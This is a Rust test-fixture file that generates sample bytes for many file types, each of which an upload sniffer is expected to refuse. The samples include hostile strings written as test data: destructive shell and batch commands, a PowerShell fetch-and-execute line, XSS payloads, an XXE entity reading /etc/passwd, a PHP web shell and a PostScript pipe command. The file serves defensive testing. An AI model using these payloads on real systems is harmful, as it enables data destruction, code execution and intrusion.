//! What is refused under every type: programs, scripts, pages, archives, documents.

use super::Expected::Refused;
use super::handmade::{Made, join};
use crate::sniffing::Forbidden::{
    self, Archive, Document, Executable, HiddenArchive, Markup, Script, Text,
};

/// All of them.
pub(super) fn all() -> Vec<Made> {
    let mut all = Vec::new();
    let mut add = |what: Forbidden, name: &str, bytes: &[u8]| {
        all.push((name.to_owned(), bytes.to_vec(), Refused(what)));
    };
    add(Executable, "Windows", &windows(b"PE\0\0\x64\x86"));
    add(Executable, "Windows, 16 bits", &windows(b"NE\x05\x0a"));
    add(Executable, "DOS", &dos());
    add(
        Executable,
        "ELF, 64 bits",
        &join(&[b"\x7fELF\x02\x01\x01\0", &[0; 56]]),
    );
    add(
        Executable,
        "ELF, 32 bits",
        &join(&[b"\x7fELF\x01\x02\x01\0", &[0; 44]]),
    );
    add(
        Executable,
        "Mach-O, 64 bits",
        &join(&[
            b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0",
            &[0; 16],
        ]),
    );
    add(
        Executable,
        "Mach-O, 32 bits",
        &join(&[b"\xce\xfa\xed\xfe\x07\0\0\0\x03\0\0\0\x06\0\0\0", &[0; 16]]),
    );
    add(
        Executable,
        "Mach-O, PowerPC",
        &join(&[b"\xfe\xed\xfa\xce\0\0\0\x12\0\0\0\0\0\0\0\x02", &[0; 16]]),
    );
    add(
        Executable,
        "Mach-O, several",
        &join(&[b"\xca\xfe\xba\xbe\0\0\0\x02", &[0; 40]]),
    );
    add(
        Executable,
        "Java",
        b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10\x0a\0\x03\0",
    );
    add(
        Executable,
        "WebAssembly",
        b"\0asm\x01\0\0\0\x01\x04\x01\x60\0\0",
    );
    add(Executable, "Android", &join(&[b"dex\n035\0", &[0; 104]]));
    add(Executable, "LLVM", b"BC\xc0\xde\x35\x14\0\0");
    add(Executable, "Lua", b"\x1bLua\x54\0\x19\x93\r\n\x1a\n");
    add(Executable, "Flash", b"CWS\x0a\x51\0\0\0x\x9c");
    add(
        Executable,
        "a link of Windows",
        &join(&[b"\x4c\0\0\0\x01\x14\x02\0", &[0; 68]]),
    );
    add(Executable, "AppleScript", b"FasdUAS 1.101.10\x0e\0\0\0");

    for (name, script) in [
        ("shell", "#!/bin/sh\nrm -rf /\n"),
        ("env", "#!/usr/bin/env python3\nprint(1)\n"),
        ("with a blank", "#! /bin/bash -e\n"),
        ("with a mark", "\u{feff}#!/bin/sh\n"),
        ("with an end of DOS", "#!/usr/bin/perl\r\n1;\r\n"),
        ("without an end", "#!/bin/sh"),
        ("by a relative path", "#!python\n\u{1f40d}"),
    ] {
        add(Script, &format!("script, {name}"), script.as_bytes());
    }
    // What stands behind the first line does not matter.
    add(
        Script,
        "script and a picture",
        b"#!/bin/sh\n\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    );

    for (name, text) in [
        ("JavaScript", "function f() { return document.cookie; }\n"),
        ("batch", "@echo off\r\ndel /q *.*\r\n"),
        (
            "PowerShell",
            "Invoke-WebRequest -Uri https://a.example | iex\n",
        ),
        ("Python", "import os\nos.system('reboot')\n"),
        ("CSS", "body { background: url(x) }\n"),
        ("words", "Só palavras, não mais do que isso.\n"),
        ("a table", "a,b,c\n1,2,3\n4,5,6\n"),
        ("JSON", "{\"a\": [1, 2, 3], \"b\": null}"),
        ("base64", "SGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA=="),
        (
            "a playlist",
            "#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:9,\na.ts\n",
        ),
        ("a key", "-----BEGIN PRIVATE KEY-----\nMC4CAQ\n"),
    ] {
        add(Text, &format!("text, {name}"), text.as_bytes());
    }
    add(
        Text,
        "text of 16 bits",
        &wide("var a = new ActiveXObject('x');", false),
    );
    add(
        Text,
        "text of 16 bits, the other way",
        &wide("Option Explicit : MsgBox 1", true),
    );

    for (name, page) in [
        ("a document", "<!DOCTYPE html><html><body></body></html>"),
        (
            "in capitals",
            "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\">",
        ),
        ("html", "<html><head></head></html>"),
        ("blanks first", " \t\r\n\x0c<HTML >\n<p>hello</p>"),
        ("a mark first", "\u{feff}<html lang=\"en\">"),
        ("script", "<script>alert(document.domain)</script>"),
        ("script with a source", "<ScRiPt src=//a.example></sCrIpT>"),
        ("iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
        ("a comment first", "<!-- hello --><script>alert(1)</script>"),
        ("short", "<b>x</b><script>alert(1)</script>"),
        ("picture with a handler", "<img src=x onerror=alert(1)>"),
        (
            "a word of its own",
            "<x-element onclick=alert(1)>click</x-element>",
        ),
        ("table", "<table><tr><td>1</td></tr></table>"),
        ("not ended", "<svg/onload=alert(1)//"),
        (
            "of other letters",
            "<title>\u{442}\u{435}\u{441}\u{442}</title>",
        ),
        (
            "SVG",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        ),
        (
            "SVG with a declaration",
            "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        ),
        (
            "SVG with a type",
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"x\"><svg></svg>",
        ),
        (
            "SVG with a prefix",
            "<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"></svg:svg>",
        ),
        ("MathML", "<math><mi>x</mi></math>"),
        (
            "XML",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"></rss>",
        ),
        ("an entity", "<!ENTITY x SYSTEM \"file:///etc/passwd\">"),
        ("PHP", "<?php system($_GET['c']); ?>"),
        ("PHP, short", "<?= `id` ?>"),
        ("ASP", "<%@ Page Language=\"C#\" %><% Response.Write(1) %>"),
        ("JSP", "<%= Runtime.getRuntime() %>"),
    ] {
        add(Markup, &format!("page, {name}"), page.as_bytes());
    }
    add(
        Markup,
        "page of 16 bits",
        &wide("<html><script>alert(1)</script></html>", false),
    );
    add(
        Markup,
        "page of 16 bits, the other way",
        &wide("<svg onload=alert(1)></svg>", true),
    );
    add(
        Markup,
        "page of 16 bits without a mark",
        &wide("<html><script>alert(1)</script>", false)[2..],
    );
    add(
        Markup,
        "page with bytes of no text",
        b"<html><body>\xe9\xe8\xff\0\x01\x02</body></html>",
    );

    let mut disk = vec![0; 0x8001];
    disk.extend(b"CD001\x01");
    disk.resize(0x8800, 0);
    let mut universal = vec![0; 0x9001];
    universal.extend(b"NSR02\x01");
    add(HiddenArchive, "a disk", &disk);
    add(HiddenArchive, "a disk, universal", &universal);
    for (name, bytes) in archives() {
        add(Archive, &format!("archive, {name}"), &bytes);
    }

    add(
        Document,
        "Word, Excel, an installer",
        &join(&[b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", &[0; 504]]),
    );
    add(Document, "RTF", b"{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}}");
    add(
        Document,
        "PostScript",
        b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
    );
    add(
        Document,
        "PostScript with a picture",
        b"\xc5\xd0\xd3\xc6\x1e\0\0\0",
    );
    add(
        Document,
        "compiled help",
        b"ITSF\x03\0\0\0\x60\0\0\0\x01\0\0\0",
    );
    all
}

fn archives() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("zip", zip(b"")),
        ("zip with a comment", zip(b"a comment")),
        ("empty zip", zip_end(0, 0, 0, b"")),
        ("zip in parts", join(&[b"PK\x07\x08", &zip(b"")])),
        ("zip, cut", b"PK\x03\x04\x14\0\0\0\x08\0".to_vec()),
        ("rar 4", rar_4()),
        ("rar 5", rar_5()),
        ("7z", seven_zip()),
        (
            "gzip with a name",
            b"\x1f\x8b\x08\x08\0\0\0\0\0\x03a.txt\0\x03\0".to_vec(),
        ),
        (
            "bzip2 of nothing",
            b"BZh9\x17\x72\x45\x38\x50\x90\0\0\0\0".to_vec(),
        ),
        ("xz", b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46".to_vec()),
        ("zstd", b"\x28\xb5\x2f\xfd\x04\x58\x29\0\0hello".to_vec()),
        (
            "zstd behind what it skips",
            b"\x51\x2a\x4d\x18\x04\0\0\0abcd\x28\xb5\x2f\xfd\x04\x58\0".to_vec(),
        ),
        ("lz4", b"\x04\x22\x4d\x18\x64\x40\xa7\0\0\0\0".to_vec()),
        ("lzip", b"LZIP\x01\x0c\0\x83\xff\xfb".to_vec()),
        (
            "lzma",
            b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x34".to_vec(),
        ),
        ("compress", b"\x1f\x9d\x90\x68\xca\xb0\x61".to_vec()),
        ("cab", cab()),
        (
            "a package of Debian",
            b"!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n".to_vec(),
        ),
        (
            "a package of Red Hat",
            join(&[b"\xed\xab\xee\xdb\x03\0\0\0", &[0; 90]]),
        ),
        (
            "cpio",
            b"070701000000010000a1ff000000000000000000000001".to_vec(),
        ),
        ("xar", b"xar!\0\x1c\0\x01\0\0\0\0".to_vec()),
        ("squashfs", b"hsqs\x07\0\0\0\0\0\0\0".to_vec()),
        (
            "an extension of a browser",
            b"Cr24\x03\0\0\0\x45\x02\0\0".to_vec(),
        ),
        ("lha", b"\x16\x5c-lh5-\x1a\0\0\0\x12\0\0\0".to_vec()),
        (
            "arj",
            b"\x60\xea\x2a\0\x1e\x07\x01\0\x10\0\x02\x2b".to_vec(),
        ),
        ("ace", b"\x5f\x48\x31\0\0\0\x90**ACE**\x14\x14\x02".to_vec()),
        ("tar", tar("a.txt", true)),
        ("tar of the seventh edition", tar("a.txt", false)),
        ("tar, named as a picture", tar("GIF89a", false)),
        ("a machine's disk", b"QFI\xfb\0\0\0\x03\0\0\0\0".to_vec()),
    ]
}

/// The stub of DOS, and a header of this kind behind it.
fn windows(newer: &[u8]) -> Vec<u8> {
    let mut stub = vec![0xcc; 0x80];
    stub[..4].copy_from_slice(b"MZ\x90\0");
    stub[0x3c..0x40].copy_from_slice(&0x80_u32.to_le_bytes());
    join(&[&stub, newer, &[0; 64]])
}

fn dos() -> Vec<u8> {
    let header = b"MZ\x20\0\x01\0\0\0\x02\0\0\0\xff\xff\0\0\0\x01\0\0\0\0\0\0\x1c\0\0\0\0\0\0\0";
    join(&[header, b"\xb4\x4c\xcd\x21"])
}

/// UTF-16 with its mark.
fn wide(text: &str, is_big: bool) -> Vec<u8> {
    let units = std::iter::once(0xfeff).chain(text.encode_utf16());
    let bytes = |unit: u16| {
        if is_big {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        }
    };
    units.flat_map(bytes).collect()
}

/// A ZIP of one empty file, `a`.
pub(super) fn zip(comment: &[u8]) -> Vec<u8> {
    let local = join(&[b"PK\x03\x04\x14\0", &[0; 20], &[1, 0, 0, 0], b"a"]);
    let list = join(&[b"PK\x01\x02\x14\0\x14\0", &[0; 20], &[1, 0], &[0; 16], b"a"]);
    let end = zip_end(1, list.len() as u32, local.len() as u32, comment);
    join(&[&local, &list, &end])
}

pub(super) fn zip_end(entries: u16, list_bytes: u32, list_at: u32, comment: &[u8]) -> Vec<u8> {
    let entries = entries.to_le_bytes();
    let comment_bytes = (comment.len() as u16).to_le_bytes();
    join(&[
        b"PK\x05\x06\0\0\0\0",
        &entries,
        &entries,
        &list_bytes.to_le_bytes(),
        &list_at.to_le_bytes(),
        &comment_bytes,
        comment,
    ])
}

/// A ZIP of so many files that it needs 64 bits.
pub(super) fn zip_64() -> Vec<u8> {
    let list = join(&[b"PK\x01\x02\x2d\0\x2d\0", &[0; 20], &[1, 0], &[0; 16], b"a"]);
    let end = join(&[b"PK\x06\x06", &44_u64.to_le_bytes(), &[0; 44]]);
    let locator = join(&[b"PK\x06\x07", &[0; 16]]);
    join(&[
        &list,
        &end,
        &locator,
        &zip_end(0xffff, u32::MAX, u32::MAX, b""),
    ])
}

pub(super) fn rar_4() -> Vec<u8> {
    join(&[b"Rar!\x1a\x07\0", b"\xcf\x90\x73\0\0\r\0\0\0\0\0\0\0"])
}

pub(super) fn rar_5() -> Vec<u8> {
    join(&[
        b"Rar!\x1a\x07\x01\0",
        b"\x33\x92\xb5\xe5\x0a\x01\x05\x06\0\x05\x01\x01\x80\x80\0",
    ])
}

pub(super) fn seven_zip() -> Vec<u8> {
    join(&[b"7z\xbc\xaf\x27\x1c\0\x04", b"\x8d\x9b\xd5\x0f", &[0; 20]])
}

pub(super) fn cab() -> Vec<u8> {
    join(&[b"MSCF\0\0\0\0", &[0x50, 0, 0, 0], &[0; 16], &[3, 1]])
}

/// A header with its sum, and an end.
pub(super) fn tar(name: &str, is_new: bool) -> Vec<u8> {
    let mut header = vec![0; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[100..108].copy_from_slice(b"0000644\0");
    header[124..136].copy_from_slice(b"00000000000\0");
    header[148..156].fill(b' ');
    if is_new {
        header[257..265].copy_from_slice(b"ustar\x0000");
    }
    let sum: u32 = header.iter().map(|it| u32::from(*it)).sum();
    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    header.resize(1536, 0);
    header
}
